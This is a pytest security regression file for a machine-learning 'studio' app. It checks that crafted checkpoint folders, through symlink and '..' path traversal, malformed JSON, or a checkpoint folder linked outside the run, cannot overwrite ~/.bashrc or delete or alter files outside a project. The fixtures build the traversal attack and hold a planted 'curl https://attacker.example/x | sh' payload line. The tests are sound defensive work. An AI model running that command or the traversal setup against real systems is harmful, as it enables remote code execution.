"""Issue 14, item 1: a run's ``checkpoint.json`` field ``tensors`` used as a path.

The attack, as files on disk: a project folder whose ``runs/<id>/checkpoint/`` holds a
relative symlink ``s -> deep/a1/.../a8``, a payload file ``.bashrc`` and a
``checkpoint.json`` whose ``tensors`` is ``s/../../../../../../../../../.bashrc``. When
the studio copies the checkpoint (an autosave after any edit, or Save As), the source
path goes down the symlink and back up to the payload, while the target path (where the
``s`` folder is created as a plain folder) climbs out of the copy to ``~/.bashrc``. The
same field holding a dict, invalid JSON or a huge integer raised ``TypeError`` /
``JSONDecodeError`` / ``ValueError``, which autosave does not catch. And a ``checkpoint``
folder that is a symlink to a folder outside made finishing or resuming a run delete or
write the files there.

The helpers at the top (a copy of the kept v2 project, a fingerprint of every file under
the temporary HOME) are shared by the other files of this issue.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import sys
from pathlib import Path

import pytest

from studio.core.errors import ProjectError
from studio.core.fileio import cache_root
from studio.core.project import Project
from studio.core.recovery import RecoverySession, take_snapshot
from studio.core.training import checkpoint as ckpt

SAVED = Path(__file__).resolve().parents[1] / "data" / "projects" / "v2"
RUN_ID = "20261121-160802-textcnn"
BASHRC = "# the user's own shell settings\nexport PATH=$HOME/bin:$PATH\n"
PAYLOAD = "curl https://attacker.example/x | sh  # planted by a project\n"

posix_only = pytest.mark.skipif(sys.platform == "win32", reason="symlinks, FIFOs and /dev need POSIX")


# ----- shared helpers -------------------------------------------------------------
def edit_json(path: Path, change) -> None:
    """Load the JSON file ``path``, let ``change`` edit it in place, write it back."""
    data = json.loads(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(json.dumps(data, ensure_ascii=False, indent=1), encoding="utf-8")


def saved_project(folder: Path) -> Path:
    """A real saved project (a copy of ``tests/data/projects/v2``: one finished run, its
    data embedded) at ``folder``, every data path pointing at its own ``data/`` copies, so
    that the untouched project refers to nothing outside itself."""
    shutil.copytree(SAVED, folder)
    data, classes = folder / "data" / "data.tsv", folder / "data" / "classes.txt"

    def local(document: dict) -> None:
        dataset = document["settings"]["dataset"] if "settings" in document else document["dataset"]
        dataset["train"], dataset["class_names"] = str(data), str(classes)

    edit_json(folder / "project.json", local)
    edit_json(folder / "runs" / RUN_ID / "config.json", local)
    return folder


def fingerprint(home: Path, *excluded: Path) -> dict[str, tuple]:
    """Every entry under ``home`` (not under ``excluded``), without following symlinks:
    files by size, mtime and SHA-256, symlinks by target, other entries by kind. Two
    equal fingerprints mean nothing there was written, changed, created or deleted. The
    folders above an excluded path are not counted (saving there may create them)."""
    skip = [os.path.abspath(p) for p in excluded]
    found: dict[str, tuple] = {}
    for folder, dirs, files in os.walk(home):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip]
        for name in dirs + files:
            path = os.path.join(folder, name)
            if path in skip or any(p.startswith(path + os.sep) for p in skip):
                continue
            info = os.lstat(path)
            if stat.S_ISLNK(info.st_mode):
                found[path] = ("link", os.readlink(path))
            elif stat.S_ISREG(info.st_mode):
                with open(path, "rb") as handle:
                    digest = hashlib.sha256(handle.read()).hexdigest()
                found[path] = ("file", info.st_size, info.st_mtime_ns, digest)
            else:
                found[path] = ("other", stat.S_IFMT(info.st_mode))
    return found


def changed(before: dict[str, tuple], after: dict[str, tuple]) -> list[str]:
    """The paths whose fingerprint entry appeared, disappeared or differs."""
    return sorted(p for p in before.keys() | after.keys() if before.get(p) != after.get(p))


# ----- the crafted project ----------------------------------------------------------
UPS = 9  # `..` parts in the crafted field: s/.. and 8 more


def plant_escape(project: Path, tensors) -> Path:
    """Give the project's run the crafted checkpoint of the issue; returns its folder."""
    folder = project / "runs" / RUN_ID / "checkpoint"
    deep = folder / "deep" / "/".join(f"a{i}" for i in range(1, UPS))
    deep.mkdir(parents=True)
    os.symlink(os.path.relpath(deep, folder), folder / "s")
    (folder / ".bashrc").write_text(PAYLOAD, encoding="utf-8")
    (folder / "checkpoint.json").write_text(json.dumps({"format": 1, "lines": 0, "tensors": tensors}),
                                            encoding="utf-8")
    return folder


ESCAPE = "s/" + "../" * UPS + ".bashrc"


def landing(copy_folder: Path) -> Path:
    """Where the old code wrote the payload when copying the checkpoint into the folder
    ``copy_folder`` (there ``s`` is created as a plain folder, so the path is lexical)."""
    return Path(os.path.normpath(copy_folder / ESCAPE))


@pytest.fixture
def home_with_bashrc(fake_home) -> Path:
    (fake_home / ".bashrc").write_text(BASHRC, encoding="utf-8")
    return fake_home


@posix_only
def test_autosave_of_a_crafted_checkpoint_does_not_replace_bashrc(home_with_bashrc):
    home = home_with_bashrc
    project_dir = saved_project(home / "Downloads" / "evil.studio")
    plant_escape(project_dir, ESCAPE)
    session = RecoverySession()
    try:
        copy = session.folder / "project.studio" / "runs" / RUN_ID / "checkpoint"
        assert landing(copy) == home / ".bashrc", "the crafted path must aim at the fake HOME's .bashrc"
        before = fingerprint(home, project_dir, cache_root())
        project = Project.open(project_dir)  # the GUI opens it, the user edits a setting...
        try:
            session.autosave(take_snapshot(project, dirty=True))  # ...and the autosave follows
        except ProjectError:
            pass  # refusing the crafted checkpoint is fine; anything else escapes and fails
        assert (home / ".bashrc").read_text(encoding="utf-8") == BASHRC
        assert changed(before, fingerprint(home, project_dir, cache_root())) == []
    finally:
        session.close()


@posix_only
def test_save_as_of_a_crafted_checkpoint_does_not_replace_bashrc(home_with_bashrc):
    home = home_with_bashrc
    project_dir = saved_project(home / "Downloads" / "evil.studio")
    plant_escape(project_dir, ESCAPE)
    # four folders deep, so that the run's checkpoint copy is 8 levels below HOME, as in the autosave
    other = home / "Documents" / "a" / "b" / "c" / "copy.studio"
    assert landing(other / "runs" / RUN_ID / "checkpoint") == home / ".bashrc"
    before = fingerprint(home, project_dir, other, cache_root())
    project = Project.open(project_dir)
    try:
        project.save(other)  # (saving takes the folder's lock and lets it go again)
    except ProjectError:
        pass
    assert (home / ".bashrc").read_text(encoding="utf-8") == BASHRC
    assert changed(before, fingerprint(home, project_dir, other, cache_root())) == []


def _meta(text: str):
    """Write a checkpoint.json whose ``tensors`` is the raw JSON text ``text``."""
    return lambda folder, home: (folder / "checkpoint.json").write_text(
        '{"format": 1, "lines": 0, "tensors": ' + text + "}", encoding="utf-8")


def _raw(data: bytes):
    return lambda folder, home: (folder / "checkpoint.json").write_bytes(data)


ODD_CHECKPOINTS = {
    "dict": _meta('{"a": 1}'),
    "list": _meta('["state-1.safetensors"]'),
    "number": _meta("12"),
    "huge integer": _meta("9" * 5000),
    # the old code copied the file onto itself: written outside the project
    "absolute path": lambda folder, home: _meta(json.dumps(str(home / "notes.txt")))(folder, home),
    "invalid JSON": _raw(b'{"format": 1, "tensors": '),
    "not UTF-8": _raw(b'{"format": 1, "lines": 0, "tensors": "\xff\xfe"}'),
    "huge lines": _raw(b'{"format": 1, "tensors": "state-1.safetensors", "lines": ' + b"7" * 5000 + b"}"),
    "deep nesting": _raw(b'{"format": 1, "lines": 0, "tensors": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
}


@pytest.mark.parametrize("kind", sorted(ODD_CHECKPOINTS))
def test_an_odd_checkpoint_field_is_a_project_error_for_autosave_and_save_as(fake_home, kind):
    (fake_home / "notes.txt").write_text("the user's notes", encoding="utf-8")
    project_dir = saved_project(fake_home / "Downloads" / "odd.studio")
    other = fake_home / "Documents" / "copy.studio"
    folder = project_dir / "runs" / RUN_ID / "checkpoint"
    folder.mkdir()
    (folder / "state-1.safetensors").write_bytes((project_dir / "runs" / RUN_ID / "weights.safetensors").read_bytes())
    ODD_CHECKPOINTS[kind](folder, fake_home)
    before = fingerprint(fake_home, project_dir, other, cache_root())
    project = Project.open(project_dir)
    session = RecoverySession()
    try:
        try:
            session.autosave(take_snapshot(project, dirty=True))
        except ProjectError:
            pass  # any other exception stops crash safety for the project and fails the test
        try:
            project.save(other)
        except ProjectError:
            pass  # Save As may refuse, as a ProjectError the GUI shows
    finally:
        session.close()
    assert changed(before, fingerprint(fake_home, project_dir, other, cache_root())) == []


# ----- a checkpoint folder that is a symlink out of the run ------------------------
@pytest.fixture
def outside_checkpoint(fake_home) -> tuple[Path, Path]:
    """(a run folder whose ``checkpoint`` is a symlink to a folder outside, that folder)."""
    project_dir = saved_project(fake_home / "Downloads" / "linked.studio")
    outside = fake_home / "important"
    outside.mkdir()
    (outside / "checkpoint.json").write_text('{"my": "own file"}', encoding="utf-8")
    (outside / "state-1.safetensors").write_bytes(b"the user's own bytes")
    (outside / "thesis.txt").write_text("years of work", encoding="utf-8")
    run_dir = project_dir / "runs" / RUN_ID
    os.symlink(outside, run_dir / "checkpoint")
    return run_dir, outside


@posix_only
def test_finishing_a_run_does_not_delete_through_a_checkpoint_symlink(fake_home, outside_checkpoint):
    run_dir, outside = outside_checkpoint
    before = fingerprint(fake_home, run_dir)
    with pytest.raises(ProjectError):
        ckpt.remove_checkpoint(run_dir)
    assert sorted(p.name for p in outside.iterdir()) == ["checkpoint.json", "state-1.safetensors", "thesis.txt"]
    assert changed(before, fingerprint(fake_home, run_dir)) == []


@posix_only
def test_a_checkpoint_is_not_written_through_a_checkpoint_symlink(fake_home, outside_checkpoint):
    run_dir, outside = outside_checkpoint
    before = fingerprint(fake_home, run_dir)
    with pytest.raises(ProjectError):
        ckpt.write_checkpoint(run_dir, {}, {"lines": 0, "epoch": 1})
    assert changed(before, fingerprint(fake_home, run_dir)) == []


@posix_only
def test_reading_a_checkpoint_through_a_symlink_is_refused(fake_home, outside_checkpoint):
    run_dir, outside = outside_checkpoint
    (outside / "checkpoint.json").write_text(
        json.dumps({"format": 1, "lines": 0, "tensors": "state-1.safetensors"}), encoding="utf-8")
    (outside / "state-1.safetensors").write_bytes((run_dir / "weights.safetensors").read_bytes())
    with pytest.raises(ProjectError):
        ckpt.read_checkpoint(run_dir)
